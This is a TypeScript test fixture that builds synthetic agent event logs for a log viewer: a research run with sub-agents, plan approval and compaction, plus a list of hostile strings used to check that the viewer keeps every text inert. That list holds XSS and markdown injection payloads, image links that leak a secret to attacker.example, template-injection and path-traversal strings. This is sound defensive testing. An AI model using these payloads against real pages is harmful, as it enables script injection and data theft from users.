/** Logs that look like real ones: for tests of the viewer, its budgets, and its picture in the README. */
import { EventLog } from "./event-log.ts";

const plan = `1. Collect **surveys** on retrieval-augmented agents since 2023
2. Compare *how citations are verified*
3. Write four sections with verified references`;

const answer = `Three findings so far:

- Verification by **quote matching** catches most invented citations: $p = 0.91 \\pm 0.03$ in the larger study.
- Agents that plan first need fewer calls: 212 against 298.
- No survey looked at *durable* runs.

| study | runs | verified |
|---|---:|---:|
| Doe 2024 | 1,200 | 91 % |
| Roe 2025 | 340 | 88 % |

I will compare both in the next section.`;

/** A research conversation in the middle of its work: three sub-agents, a compaction, an approval that waits. */
export function researchLog(): EventLog {
  const log = new EventLog("c_1").created("How do research agents verify their citations?");
  log.run = null;
  log.said(
    "m_1",
    "How do research agents verify their citations? Write a short paper, four sections, only verified references.",
  );
  log.push("conversation.state", { state: "processing", why: "a message was taken" });
  log.run = "run-01j9";
  log.runStart("m_1").loop("l1", null, {
    task: "How do research agents verify their citations?",
    model: "claude-sonnet-4-5",
    mode: "plan",
  });
  log.step = 900;
  const gauge = (turn: number, used: number): void => {
    log.push(
      "context.usage",
      {
        used,
        window: 200_000,
        ratio: used / 200_000,
        threshold: 180_000,
        source: "vendor",
        parts: { system: 3_100, tools: 5_200, messages: used - 8_300 },
      },
      { loop: "l1", turn },
    );
  };
  log.turn("l1", 1, "claude-sonnet-4-5");
  log.push(
    "thought.end",
    { text: "The question is broad. A plan first, then searches side by side." },
    { loop: "l1", turn: 1 },
  );
  log.text("l1", 1, "I'll propose a plan before I search.");
  log.usage("l1", 1, { input: 8_412, output: 390, cost_usd: 0.031 });
  gauge(1, 8_802);
  log.call("l1", 1, 0, "propose_plan", { plan });
  log.push("plan.changed", { entries: null, text: plan }, { loop: "l1", turn: 1, call: "l1.1.0" });
  log.ask("q_plan", { kind: "plan", prompt: plan }, { loop: "l1", turn: 1, call: "l1.1.0" });
  log.push("question.answered", { question: "q_plan", answer: { decision: "approve" }, by: "ann" });
  log.end("l1.1.0", "ok", { result: "approved", duration_ms: 14_200 });
  log.push("mode.changed", { from: "plan", to: "execute", by: "ann" }, { loop: "l1", turn: 1 });
  log.turnEnd("l1", 1, 1).turn("l1", 2, "claude-sonnet-4-5");
  log.text("l1", 2, "Three questions can be looked into at the same time.");
  log.usage("l1", 2, { input: 9_120, output: 512, cost_usd: 0.035 });
  gauge(2, 12_730);
  const questions = [
    "quote matching against stored sources",
    "registers: Crossref and arXiv",
    "what models cite from memory",
  ];
  for (const [i, question] of questions.entries()) log.call("l1", 2, i, "research", { question });
  for (const [i, question] of questions.entries()) {
    const loop = `l${i + 2}`;
    log.loop(
      loop,
      { loop: "l1", call: `l1.2.${i}` },
      { name: "research", task: question, model: "claude-haiku-4-5" },
    );
    log
      .turn(loop, 1, "claude-haiku-4-5")
      .usage(loop, 1, { input: 3_000 + i * 210, output: 120, cost_usd: 0.004 });
    log
      .call(loop, 1, 0, "web_search", { query: `${question} agents 2024`, kind: "papers" })
      .end(`${loop}.1.0`, "ok", {
        result: '[{"title":"Grounded agents","url":"https://example.org/a"}]',
        duration_ms: 640 + i * 90,
      });
    log.call(loop, 1, 1, "web_fetch", { url: `https://example.org/paper-${i + 1}` });
    if (i === 1)
      log.end(`${loop}.1.1`, "rejected", {
        gate: "policy",
        error: "example.org/paper-2 resolves to a private address",
        duration_ms: 3,
      });
    else log.end(`${loop}.1.1`, "ok", { result: "Abstract. We study …", duration_ms: 1_240 });
    log.turnEnd(loop, 1, 2).turn(loop, 2, "claude-haiku-4-5");
    log.usage(loop, 2, { input: 6_100, output: 300, cost_usd: 0.008 });
    log.text(loop, 2, `Two sources hold for ${question}; both are in the library.`);
    log
      .turnEnd(loop, 2)
      .loopEnd(loop, 2, "done", "completed", { input: 9_100, output: 420, cost_usd: 0.012 });
    log.end(`l1.2.${i}`, "ok", { result: "summary …", duration_ms: 8_900 + i * 700 });
  }
  log.turnEnd("l1", 2, 3);
  log.push(
    "context.compacted",
    {
      before: 181_200,
      after: 22_400,
      archived: 41,
      kept: 5,
      strategy: "llm",
      reason: "threshold",
      summary: "The plan was approved. Three sub-agents found **six** sources; one address was refused.",
      pinned: ["PLAN.md", "2 decisions", "3 reports"],
      cut: [],
    },
    { loop: "l1", turn: 2 },
  );
  log.turn("l1", 3, "claude-sonnet-4-5").text("l1", 3, answer);
  log.usage("l1", 3, { input: 22_400, output: 1_204, cost_usd: 0.085 });
  gauge(3, 156_300);
  log.call("l1", 3, 0, "paper_write_section", { section: "Introduction", body: "Research agents cite …" });
  log.push(
    "paper.changed",
    { project: "p_1", version: 7, op: "write_section", section: "s_1" },
    { loop: "l1", turn: 3, call: "l1.3.0" },
  );
  log.end("l1.3.0", "ok", { result: "version 7", duration_ms: 18 });
  log.call("l1", 3, 1, "write_file", { path: "compare.py", content: "import json\n" });
  log.push(
    "file.changed",
    { path: "compare.py", change: "created", before: null, after: "h1", bytes: 812 },
    { loop: "l1", turn: 3, call: "l1.3.1" },
  );
  log.end("l1.3.1", "ok", { result: "812 bytes", duration_ms: 4 });
  log.push(
    "decision",
    {
      about: "stop",
      verdict: "continue",
      why: "the plan has an open step",
      by: "completion",
      considered: [
        { layer: "completion", said: "step 3 of the plan is open" },
        { layer: "budget", said: "211 of 300 calls are left" },
        { layer: "judge", said: "not asked" },
      ],
    },
    { loop: "l1", turn: 3 },
  );
  log.turnEnd("l1", 3, 2).turn("l1", 4, "claude-sonnet-4-5");
  log.usage("l1", 4, { input: 24_000, output: 310, cost_usd: 0.078 });
  log.text("l1", 4, "Now I compare the two studies with a short script.");
  log.call("l1", 4, 0, "run_code", {
    language: "python3",
    code: "import json\nrows = json.load(open('studies.json'))\nprint(sum(r['verified'] for r in rows) / len(rows))",
  });
  log.ask(
    "q_code",
    {
      kind: "approval",
      prompt: "Code runs without a network and may write to the workspace only.",
      tool: "run_code",
      arguments: {
        language: "python3",
        code: "import json\nrows = json.load(open('studies.json'))\nprint(sum(r['verified'] for r in rows) / len(rows))",
      },
    },
    { loop: "l1", turn: 4, call: "l1.4.0" },
  );
  return log;
}

/** Conversations beside it: one that is done, one that waits, one that was stopped. */
export function otherLogs(): [string, EventLog][] {
  const log = (
    title: string,
    agent: string,
    turns: number,
    state: "idle" | "waiting" | "interrupted",
  ): EventLog => {
    const made = new EventLog().created(title, agent).said("m_1", title).runStart("m_1").loop("l1");
    for (let turn = 1; turn <= turns; turn++)
      made.turn("l1", turn).usage("l1", turn, { input: 9_000, output: 400, cost_usd: 0.024 });
    if (state === "waiting") made.ask("q_1");
    return made.push("conversation.state", { state, why: "" });
  };
  return [
    ["c_2", log("Which licence may we ship?", "audit", 9, "idle")],
    ["c_3", log("Migrate the billing tests to the new client", "coder", 24, "waiting")],
    ["c_4", log("Summarise last week's incidents", "research", 6, "interrupted")],
  ];
}

/** `turns` turns of an outermost loop, ten events each. */
export function longLog(turns: number): EventLog {
  const log = new EventLog("c_long").created("A long one");
  log.said("m_1", "Count.").runStart("m_1").loop("l1");
  log.push("conversation.state", { state: "processing", why: "taken" });
  for (let turn = 1; turn <= turns; turn++) {
    log
      .turn("l1", turn)
      .text("l1", turn, `This is turn **${turn}**, and it says what it does in a sentence or two.`);
    log.usage("l1", turn, { input: 1_000 + turn, output: 40, cost_usd: 0.001 });
    for (let i = 0; i < 3; i++)
      log.call("l1", turn, i, "read_file", { path: `src/file-${turn}-${i}.ts` }).end(`l1.${turn}.${i}`);
    log.turnEnd("l1", turn, 3);
  }
  return log;
}

/** Texts that must stay texts, wherever they stand. */
export const hostileTexts: readonly string[] = [
  "</script><script>window.owned=1</script>",
  '"><img src=x onerror="window.owned=1">',
  "<svg/onload=window.owned=1>",
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  "[click](javascript:window.owned=1)",
  "[click](data:text/html,<script>window.owned=1</script>)",
  "![pixel](https://attacker.example/?secret=1)",
  "![pixel](//attacker.example/p.png)",
  "![pixel](javascript:window.owned=1)",
  "<a href='javascript:window.owned=1'>x</a>",
  "[x]: javascript:window.owned=1\n\n[x]",
  "$\\href{javascript:window.owned=1}{x}$ $\\style{background:url(https://attacker.example)}{x}$",
  "$\\includegraphics{https://attacker.example/x.png}$ $\\html@mathml{<script>}{x}$",
  "$\\def\\a{\\a\\a}\\a$",
  `$${"{".repeat(2_000)}x${"}".repeat(2_000)}$`,
  `${">".repeat(5_000)} deep`,
  "*".repeat(5_000),
  "[".repeat(5_000),
  "\u202egnp.exe \u2066\u200b",
  "a\u0000b\ud800",
  `${"x".repeat(100_000)}end`,
  // Markup of other languages.
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned=1</script><a xlink:href="javascript:window.owned=1">x</a></svg>',
  '<math href="javascript:window.owned=1"><mtext><img src=x onerror=window.owned=1></mtext></math>',
  "<style>@import 'https://attacker.example/a.css'; body{background:url(https://attacker.example/b)}</style>",
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">',
  "<details open ontoggle=window.owned=1><form action=javascript:window.owned=1><button formaction=javascript:window.owned=1>",
  // Addresses that are written so that they do not look like what they are.
  "[x](JaVaScRiPt:window.owned=1) [x](java\tscript:window.owned=1) [x](&#106;avascript:window.owned=1) [x](vbscript:x)",
  "<javascript:window.owned=1> <data:text/html,x> https://ok.example/?q=<script>window.owned=1</script>",
  "[x](file:///etc/passwd) [x](//attacker.example) [x](\\\\attacker.example\\a) [x](blob:https://attacker.example/1)",
  "![x](data:image/svg+xml,<svg onload=window.owned=1>) [![x](https://attacker.example/i.png)](javascript:window.owned=1)",
  "[^1]\n\n[^1]: <img src=x onerror=window.owned=1>",
  `${"- x\n".repeat(3)}${Array.from({ length: 300 }, (_, n) => `${"  ".repeat(n)}- ${n}`).join("\n")}`,
  `| a | b |\n|---|---|\n${"| <b onclick=window.owned=1>x</b> | [y](javascript:window.owned=1) |\n".repeat(400)}`,
  `| a |\n|---|\n${`| ${"cell ".repeat(40)} |\n`.repeat(5_000)}`,
  "a\u2066\u2067b\u2069 \u202b\u200f \ufeff\u00ad\u2028 \u{e0041}",
  "__proto__",
  "constructor",
  "{{constructor.constructor('window.owned=1')()}}",
  "../../../etc/passwd",
];

/** A log in which every text is an attack. */
export function hostileLog(): EventLog {
  const log = new EventLog("c_1").created(hostileTexts[1] as string, hostileTexts[0]);
  log.said("m_1", hostileTexts.slice(0, 6).join("\n\n"));
  log.push("conversation.state", { state: "processing", why: hostileTexts[2] as string });
  log.runStart("m_1").loop("l1", null, {
    task: hostileTexts[0] as string,
    name: hostileTexts[1] as string,
    model: hostileTexts[2] as string,
  });
  for (const [i, text] of hostileTexts.entries()) {
    const turn = i + 1;
    log.turn("l1", turn, text.slice(0, 100)).text("l1", turn, text);
    log.push("thought.end", { text }, { loop: "l1", turn });
    log.call("l1", turn, 0, text.slice(0, 200), { [text.slice(0, 100)]: text, code: `${text}\n` });
    log.push(
      "file.changed",
      { path: text.slice(0, 300), change: "written", before: null, after: "h", bytes: 1 },
      { loop: "l1", turn, call: `l1.${turn}.0` },
    );
    log.end(`l1.${turn}.0`, i % 2 === 0 ? "error" : "ok", {
      result: text,
      error: i % 2 === 0 ? text : null,
      gate: text.slice(0, 50),
    });
    log.push(
      "decision",
      {
        about: text.slice(0, 40),
        verdict: text.slice(0, 40),
        why: text,
        by: text.slice(0, 40),
        considered: [{ layer: text.slice(0, 40), said: text }],
      },
      { loop: "l1", turn },
    );
    log.push("notice", { level: "warning", text }, { loop: "l1", turn }).turnEnd("l1", turn, 1);
  }
  log.push(
    "plan.changed",
    { entries: null, text: hostileTexts.slice(0, 10).join("\n\n") },
    { loop: "l1", turn: 1 },
  );
  for (const [i, text] of hostileTexts.slice(0, 12).entries()) {
    const place = { loop: "l1", turn: i + 1 };
    const short = text.slice(0, 60);
    log.push("retry", { what: "tool", attempt: 1, delay_ms: 1, reason: text }, place);
    log.push("mode.changed", { from: short, to: short, by: short }, place);
    log.push(
      "doom.detected",
      { pattern: "cycle", period: 2, calls: [text, short], strike: 1, action: "correct" },
      place,
    );
    log.push(
      "context.compacted",
      {
        before: 2,
        after: 1,
        archived: 1,
        kept: 1,
        strategy: short,
        reason: short,
        summary: text,
        pinned: [text],
        cut: [],
      },
      place,
    );
    log.push("paper.changed", { project: text.slice(0, 200), version: 1, op: short, section: short }, place);
    log.push("trace", { name: text, fields: { [short]: text } }, place);
    log.push("interrupt.requested", { by: text, reason: text });
    log.push("run.interrupted", { by: text, reason: text, how: "idle", ms: 1 });
  }
  log.push("run.end", { status: "failed", exit_code: 1, error: hostileTexts[0] as string });
  log.push("run.resumed", { because: "asked" });
  log.ask("q_1", { prompt: hostileTexts[1] as string, schema: { enum: [hostileTexts[0] as string, "ok"] } });
  return log.ask("q_2", {
    kind: "approval",
    tool: hostileTexts[2] as string,
    prompt: hostileTexts[3] as string,
    arguments: { a: hostileTexts[0] as string },
  });
}
